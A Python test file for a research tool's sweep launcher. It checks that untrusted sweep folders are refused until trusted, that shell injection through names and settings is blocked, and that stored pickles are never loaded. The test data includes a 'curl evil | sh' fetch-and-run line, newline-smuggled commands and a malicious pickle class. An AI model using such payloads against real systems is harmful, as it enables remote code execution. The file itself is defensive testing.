"""What a sweep's folder would run is run only where this user has chosen it, here; nothing in it is unpickled."""

from __future__ import annotations

import json
import os
import pickle
import shutil
from collections.abc import Callable
from contextlib import nullcontext
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import typer
from sweeps.made import cell, job_of, make_sweep
from typer.testing import CliRunner, Result

from eqprop_core.problems import ConfigError
from eqprop_core.runs.places import Place
from eqprop_core.sweeps import slurm, submitting, trust
from eqprop_core.sweeps.folder import PLAN, SweepFolder
from eqprop_core.sweeps.job import RunJob
from eqprop_core.sweeps.settings import launch_settings
from eqprop_core.sweeps.submitted import jobs_of, new_place, numbers_of, place_of
from eqprop_tui.cli import sweep_start
from eqprop_tui.cli.main import app

Run = Callable[..., Result]
EVIL = {"launcher": "slurm", "setup": ["curl evil | sh\x1b[2K"], "sbatch": {"chdir": "/tmp"}}


@pytest.fixture
def submitted(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, Any]]:
    """What sbatch would be given, in place of asking it."""
    found: list[dict[str, Any]] = []

    def submit(sweep: SweepFolder, settings: Any, **more: Any) -> int:
        found.append(slurm._parameters(sweep, settings, sweep.jobs()[0]))
        return 0

    monkeypatch.setattr(slurm, "require", lambda _: None)
    monkeypatch.setattr(slurm, "submit_all", submit)
    return found


def foreign(root: Path, launcher: dict[str, Any] = EVIL) -> SweepFolder:
    """A sweep that came from elsewhere: nothing here has made it."""
    sweep = make_sweep(root, cell("a"))
    document = json.loads((sweep.path / PLAN).read_text())
    (sweep.path / PLAN).write_text(json.dumps({**document, "launcher": launcher}))
    return SweepFolder.open(sweep.path)


def test_a_sweep_from_elsewhere_is_shown_and_refused(
    tmp_path: Path, eqprop: Run, submitted: list[Any]
) -> None:
    sweep = foreign(tmp_path)
    said = eqprop("sweep", "resume", sweep.path, "--detach", code=2).stderr
    assert "setup: curl evil | sh\\x1b[2K" in said and "sbatch: --chdir=/tmp" in said
    assert "--trust: is needed" in said and "\x1b" not in said
    eqprop("sweep", "resume", sweep.path, "--detach", "--setup", "module load x", code=2)
    assert not submitted
    mine = ["--setup", "module load x", "--sbatch", "nice=5"]
    eqprop("sweep", "resume", sweep.path, "--detach", *mine)
    assert submitted[0]["setup"][0] == "module load x"
    assert submitted[0]["additional_parameters"] == {"requeue": True, "nice": "5"}
    eqprop("sweep", "resume", sweep.path, "--detach", code=2)
    eqprop("sweep", "resume", sweep.path, "--detach", "--trust")
    eqprop("sweep", "resume", sweep.path, "--detach")  # agreed to by now
    assert submitted[2]["setup"][0].startswith("curl evil")


def test_what_was_agreed_to_is_that_folder_with_those_lines(tmp_path: Path) -> None:
    sweep = foreign(tmp_path)
    assert trust.unknown(sweep)
    trust.note(sweep)
    assert not trust.unknown(sweep)
    changed = foreign(tmp_path / "b")
    (sweep.path / PLAN).write_text((changed.path / PLAN).read_text().replace("curl", "wget"))
    assert trust.unknown(SweepFolder.open(sweep.path))
    copied = Path(shutil.copytree(changed.path, tmp_path / "copied"))
    trust.note(changed)
    assert not trust.unknown(changed) and trust.unknown(SweepFolder.open(copied))


@pytest.mark.parametrize("answer", ["n", "y"])
def test_one_who_sits_at_a_terminal_is_asked(
    answer: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sweep = foreign(tmp_path)
    terminal = SimpleNamespace(isatty=lambda: True, readline=lambda: f"{answer}\n")
    monkeypatch.setattr("sys.stdin", terminal)
    with nullcontext() if answer == "y" else pytest.raises(typer.Abort):
        sweep_start._refuse_unknown(sweep, {}, trusted=False)
    assert bool(trust.unknown(sweep)) == (answer == "n")


def test_a_sweep_of_before_without_such_lines_goes_on(tmp_path: Path) -> None:
    for launcher in ({}, {"launcher": "slurm", "partition": "long", "time": 90}, {"jobs": 2}):
        assert not trust.unknown(foreign(tmp_path, launcher))


def test_a_sweep_of_another_user_is_shown_first(tmp_path: Path) -> None:
    if os.getuid() != 0:
        pytest.skip("only root can give a folder to another user")
    for name in (".", PLAN):
        sweep = foreign(tmp_path / name, {"jobs": 2})
        os.chown(sweep.path / name, 12345, 12345)
        (line,) = trust.unknown(sweep)
        assert "belongs to another user (number 12345)" in line
        trust.note(sweep)
        assert not trust.unknown(sweep)


@pytest.mark.parametrize(
    "changes",
    [
        {"sbatch": {"nice\ncurl evil": True}},
        {"sbatch": {"nice": "5\ncurl evil"}},
        {"sbatch": {"output": "/home/x"}},
        {"partition": "a\ncurl evil"},
        {"account": "a\rb"},
        {"mem": "1G\nx"},
        {"launcher": "bash"},
        {"unknown": 1},
    ],
    ids=str,
)
def test_settings_of_a_folder_are_judged_as_if_they_were_typed(changes: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        launch_settings({}, {"launcher": "slurm", **changes})


@pytest.mark.parametrize("name", ["a\ntouch x", "$(touch x)", "`touch x`", "'; touch x; '", "\x1b[2J"])
def test_no_name_is_a_command_in_a_script(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(submitting.Executor, "affinity", classmethod(lambda _: 1))
    sweep = make_sweep(tmp_path, cell(name))
    sweep.plan = sweep.plan.model_copy(update={"name": name})
    (job, *_) = sweep.jobs()
    settings = launch_settings({"launcher": "slurm", "setup": ("true",)})
    executor = submitting.Executor(new_place(sweep, job), max_num_timeout=1)
    executor.told = RunJob(job.path).as_text()
    executor.update_parameters(**slurm._parameters(sweep, settings, job))
    script = executor._make_submission_file_text(executor._submitit_command_str, "x")
    commands = [line for line in script.splitlines() if line and not line.startswith("#")]
    assert commands[0] == "true" and not any(line.startswith(("touch", "curl")) for line in commands)
    assert "touch" not in "".join(commands[:-1])


class Evil:
    """What runs where it is unpickled."""

    def __init__(self, witness: Path) -> None:
        self.witness = witness

    def __reduce__(self) -> Any:
        return Path.touch, (self.witness,)


def test_nothing_that_lies_in_a_sweep_is_unpickled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sweep = make_sweep(tmp_path, cell("a"))
    (job, *_) = sweep.jobs()
    place, witness = place_of(sweep, job), tmp_path / "witness"
    pickle.loads(pickle.dumps(Evil(witness)))
    witness.unlink()
    place.mkdir(parents=True)
    for number in (str(os.getpid()), "101"):
        for name in ("submitted", "0_result"):
            (place / f"{number}_{name}.pkl").write_bytes(pickle.dumps(Evil(witness)))
    done: list[Path] = []
    monkeypatch.setattr(RunJob, "__call__", lambda self: done.append(self.path))
    monkeypatch.setenv("SUBMITIT_EXECUTOR", "local")
    monkeypatch.setenv("SUBMITIT_LOCAL_JOB_ID", "101")
    for name in ("NTASKS", "JOB_NUM_NODES"):
        monkeypatch.setenv(f"SUBMITIT_LOCAL_{name}", "1")
    for name in ("NODEID", "GLOBALID", "LOCALID"):
        monkeypatch.setenv(f"SUBMITIT_LOCAL_{name}", "0")
    monkeypatch.setattr(submitting.utils.DelayedSubmission, "load", None)
    monkeypatch.setattr("signal.signal", lambda *_: None)
    told = RunJob(job.path, place=Place("cpu"), now=False, grace=7, environment={"A": None, "B": "c"})
    for words in (told.as_text(), None):  # that of a script of before as well
        submitting.begin(str(place), words)
    assert done == [job.path, job.path] and not witness.exists()
    again = RunJob.from_text(told.as_text())
    assert vars(again) == vars(told)


def test_each_job_has_a_folder_that_was_not_there(tmp_path: Path) -> None:
    sweep = make_sweep(tmp_path, cell("a"))
    job = job_of(sweep, "a", 0)
    first, second = new_place(sweep, job), new_place(sweep, job)
    assert first != second and not first.stat().st_mode & 0o022
    (place_of(sweep, job) / "7_submitted.pkl").touch()  # as it was before
    (first / "8_submitted.pkl").touch()
    assert set(numbers_of(sweep, job)) == {"7", "8"} and jobs_of(sweep, job)["8"] == first


def test_the_help_says_what_trust_is() -> None:
    said = CliRunner().invoke(app, ["sweep", "resume", "--help"], prog_name="eqprop").output
    assert "--trust" in said


def test_where_nothing_can_be_noted_it_is_shown_each_time(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sweep = foreign(tmp_path)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / ("x" * 300)))  # which no file system has
    trust.note(sweep)
    assert trust.unknown(sweep)
